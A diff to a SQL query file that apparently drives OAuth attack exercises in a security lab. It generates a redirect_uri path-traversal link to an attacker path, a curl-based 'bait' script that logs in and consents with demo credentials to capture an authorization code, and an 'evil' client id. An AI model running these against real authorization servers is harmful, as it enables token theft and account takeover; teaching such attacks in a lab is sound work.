@@ -13,8 +13,8 @@ SELECT verifier AS trap_verifier, pkce_challenge(verifier) AS trap_challenge, to
 -- name: trap_page
 -- needs: @issuer @trap_state @trap_challenge $mount
 -- gives: model
--- Lab 10: an address that begins with one of demo-cli's and climbs out of it.  Lab 14: a request of the attacker's own, with no state, no
--- nonce and no challenge that anybody would have to know.
+-- Lab 10: an address that begins with one of demo-cli's and climbs out of it.  Lab 14: a request of the attacker's own, without a nonce,
+-- whose answer stops in the attacker's shell.
 WITH place AS (
   SELECT (SELECT redirect_uri FROM client_redirect_uri
            WHERE client_id = 'demo-cli' AND substr(redirect_uri, -length($mount || '/cli/callback')) = $mount || '/cli/callback') AS cli,
@@ -23,11 +23,14 @@ SELECT json_object(
   'link', @issuer || '/authorize?response_type=code&client_id=demo-cli&redirect_uri=' || cli || '/../../attacker/code'
           || '&scope=openid+notes:read&state=' || @trap_state || '&code_challenge=' || @trap_challenge || '&code_challenge_method=S256',
   'bait', 'JAR=$(mktemp)' || char(10)
-          || 'FORM=$(curl -sL -c $JAR -b $JAR "' || @issuer || '/authorize?response_type=code&client_id=notes-web&redirect_uri='
-          || client_url || 'callback&scope=openid+profile+notes:read&state=' || @trap_state || '")' || char(10)
-          || 'field() { printf %s "$FORM" | sed -n ''s/.*name="''"$1"''" value="\([^"]*\)".*/\1/p'' | head -n 1; }' || char(10)
-          || 'BAIT=$(curl -s -c $JAR -b $JAR -o /dev/null -w ''%{redirect_url}'' ' || @issuer || '/login \' || char(10)
-          || '  -d request="$(field request)" -d csrf="$(field csrf)" -d username=bob -d password=builder)' || char(10)
+          || 'send() { curl -s -c $JAR -b $JAR -o $JAR.page -w ''%{redirect_url}'' "$@"; }' || char(10)
+          || 'field() { sed -n ''s/.*name="''"$1"''" value="\([^"]*\)".*/\1/p'' $JAR.page | head -n 1; }' || char(10)
+          || 'send -L "' || @issuer || '/authorize?response_type=code&client_id=notes-web&redirect_uri=' || client_url
+          || 'callback&scope=openid+profile+notes:read&state=' || @trap_state || '&code_challenge=' || @trap_challenge
+          || '&code_challenge_method=S256"' || char(10)
+          || 'BAIT=$(send ' || @issuer || '/login -d request=$(field request) -d csrf=$(field csrf) -d username=bob -d password=builder)' || char(10)
+          || 'case $BAIT in *consent*) send "$BAIT"; '
+          || 'BAIT=$(send ' || @issuer || '/consent -d request=$(field request) -d csrf=$(field csrf) -d allow=1);; esac' || char(10)
           || 'echo "$BAIT"',
   'evil', client_url || 'login?client_app_id=notes-web-at-evil',
   'held', (SELECT json_group_array(json_object('tag', tag, 'class', lower(tag), 'short', short, 'since', since))
